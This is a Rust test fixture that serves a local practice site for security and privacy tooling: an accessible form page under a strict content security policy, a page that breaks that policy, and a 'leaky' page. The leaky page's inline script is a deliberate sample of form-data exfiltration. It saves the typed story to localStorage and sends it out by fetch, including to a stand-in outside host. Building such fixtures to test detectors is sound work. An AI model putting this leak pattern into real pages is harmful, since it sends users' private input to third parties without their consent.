//! A small site for testing the tools: one page as good as ours should be, one that does everything wrong.

use http_body_util::Full;
use hyper::{Request, Response, body::Incoming};

use crate::loopback::{Answer, HangUp, Loopback};

const POLICY: &str =
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'";

/// Starts it.
pub async fn start() -> Loopback {
    Loopback::start(serve).await
}

async fn serve(request: Request<Incoming>) -> Result<Answer, HangUp> {
    let (kind, body) = match request.uri().path() {
        "/good" => ("text/html", GOOD),
        "/good.js" => ("text/javascript", GOOD_SCRIPT),
        "/bad" => ("text/html", BAD),
        "/leaky" => ("text/html", LEAKY),
        "/sealed.age" => ("application/octet-stream", "age-encryption.org/v1\n"),
        _ => ("text/plain", "ok"),
    };
    let answer = Response::builder().header("content-type", kind).header("repr-digest", "sha-256=:dGVzdA==:");
    let answer =
        if request.uri().path() == "/leaky" { answer } else { answer.header("content-security-policy", POLICY) };
    Ok(answer.body(Full::new(body.into())).expect("a valid answer"))
}

const GOOD: &str = r##"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Practice</title><link rel="icon" href="/good.ico"><script src="/good.js" defer></script></head>
<body><main>
<h1 tabindex="-1" id="top">Practice page</h1>
<div class="govuk-error-summary" id="problems" tabindex="-1" hidden><h2>There is a problem</h2>
<ul class="govuk-error-summary__list"><li><a href="#name">Enter a name</a></li></ul></div>
<form autocomplete="off">
<p><label for="name">Full name</label> <input id="name" autocomplete="off"></p>
<p><label for="story">What happened</label> <textarea id="story" autocomplete="off"></textarea></p>
<fieldset><legend>Safe to ring?</legend>
<input type="radio" name="ring" id="ring" value="yes" autocomplete="off"> <label for="ring">Yes</label>
<input type="radio" name="ring" id="ring-2" value="no" autocomplete="off"> <label for="ring-2">No</label></fieldset>
<p><input type="checkbox" id="agreed" autocomplete="off"> <label for="agreed">Agreed</label></p>
<p><label for="agency">Agency</label> <select id="agency" autocomplete="off"><option>Choose</option><option value="h">Housing</option></select></p>
<fieldset><legend>Date of birth</legend><label for="born">Day</label> <input id="born" autocomplete="off">
<label for="born-month">Month</label> <input id="born-month" autocomplete="off"> <label for="born-year">Year</label> <input id="born-year" autocomplete="off"></fieldset>
<p><label for="papers">Papers</label> <input type="file" id="papers"></p>
<button id="go">Continue</button></form>
<p><a href="/sealed.age" download="sealed.age">Download the sealed file</a></p>
<p id="said"></p>
</main></body></html>"##;

const GOOD_SCRIPT: &str = r#"
document.querySelector("form").addEventListener("submit", event => {
    event.preventDefault();
    const summary = document.getElementById("problems");
    if (document.getElementById("name").value === "") {
        summary.hidden = false;
        summary.focus();
        return;
    }
    const said = ["name", "story", "agency", "born", "born-month", "born-year"].map(id => document.getElementById(id).value);
    const file = document.getElementById("papers").files[0];
    const ring = document.querySelector("[name=ring]:checked");
    said.push(ring && ring.value, document.getElementById("agreed").checked, file && file.name);
    document.getElementById("said").textContent = said.join(" | ");
    document.querySelector("h1").textContent = "Thank you";
});
"#;

/// An inline script and a foreign picture under a policy that allows neither, and a picture that nobody can hear.
const BAD: &str = r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Bad</title><link rel="icon" href="/good.ico"></head>
<body><main><h1>Bad page</h1><img src="/picture.png"><input id="nameless">
<script>document.body.append("inline")</script>
<img alt="" src="http://elsewhere.example.org/picture.png"></main></body></html>"#;

/// No policy, no `autocomplete`, and everything that is typed goes out at once.
const LEAKY: &str = r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Leaky</title><link rel="icon" href="/good.ico"></head>
<body><main><h1>Leaky page</h1><form>
<label for="story">What happened</label> <textarea id="story"></textarea> <button type="button">Next</button></form>
<script>
document.getElementById("story").addEventListener("change", event => {
    const text = event.target.value;
    localStorage.setItem("story", text);
    fetch("/collect?q=" + btoa("1" + text), { method: "POST", body: text });
    fetch("http://elsewhere.example.org/" + text, { mode: "no-cors" }).catch(() => {});
    fetch("https://elsewhere.example.org/", { mode: "no-cors" }).catch(() => {});
    fetch("http://127.0.0.1:4321/", { mode: "no-cors" }).catch(() => {});
});
</script></main></body></html>"#;
